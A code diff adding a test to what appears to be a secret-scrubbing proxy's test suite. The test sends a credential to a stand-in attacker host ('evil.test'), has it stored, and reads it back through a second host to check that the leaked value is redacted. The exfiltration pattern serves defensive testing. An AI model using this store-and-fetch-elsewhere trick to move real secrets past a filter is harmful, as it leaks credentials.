@@ -310,3 +310,22 @@ def test_a_header_that_is_not_utf8_survives_injection(env, with_placeholder):
         data, _ = read_until_closed(tls, 8)
     assert data.startswith(b"HTTP/1.1 200"), data[:300]
     assert evil.seen[-1][1]["x-name"] == b"caf\xe9".decode("latin-1")
+
+
+def test_a_value_stored_at_the_bound_host_and_read_back_through_another_host_is_scrubbed(env):
+    """The bound host keeps the value (a gist, a request log) and serves it from another name: every response a
+    session holding the secret gets is scrubbed, not only those of the bound host."""
+    sg, evil = env
+    EVIL_PORT[0] = evil.port
+    sess = sg.session(allow=["evil.test", "elsewhere.test"], secrets=["evil"])
+    with tunnel(sg, sess, "http/1.1") as tls:
+        tls.sendall(f"GET /store HTTP/1.1\r\nHost: evil.test:{evil.port}\r\n"
+                    f"Authorization: Bearer {sess['env']['EVIL']}\r\nConnection: close\r\n\r\n".encode())
+        read_until_closed(tls, 8)
+    assert evil.stored == REAL
+    other = open_tunnel(sg.proxy_port, sess["token"], f"elsewhere.test:{evil.port}")
+    with tls_in_tunnel(other, sess["ca_file"], "elsewhere.test", alpn=["http/1.1"]) as tls:
+        tls.sendall(f"GET /fetch HTTP/1.1\r\nHost: elsewhere.test:{evil.port}\r\nConnection: close\r\n\r\n".encode())
+        data, _ = read_until_closed(tls, 8)
+    assert evil.seen[-1][0] == "/fetch"
+    assert b"stored=" in data and not leaked(data), data
